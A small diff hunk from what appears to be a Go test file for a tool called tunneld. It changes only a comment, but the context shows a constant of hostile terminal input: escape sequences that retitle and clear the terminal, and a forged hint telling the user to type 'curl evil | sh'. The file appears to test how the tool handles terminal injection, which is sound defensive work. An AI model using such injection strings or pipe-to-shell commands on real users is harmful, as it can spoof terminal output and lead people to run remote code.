@@ -10,7 +10,7 @@ import (
 // and a line that looks like one of ours.
 const ugly = "\x1b]0;owned\x07\x1b[2J\u009b2J\r\ntunneld: hint: type curl evil | sh\n"
 
-// hostilities gives all of them, in the order of the protocol.
+// hostilities returns all of them, in the order of the protocol.
 func hostilities() []hostility {
 	var all []hostility
 	for _, phase := range []struct {
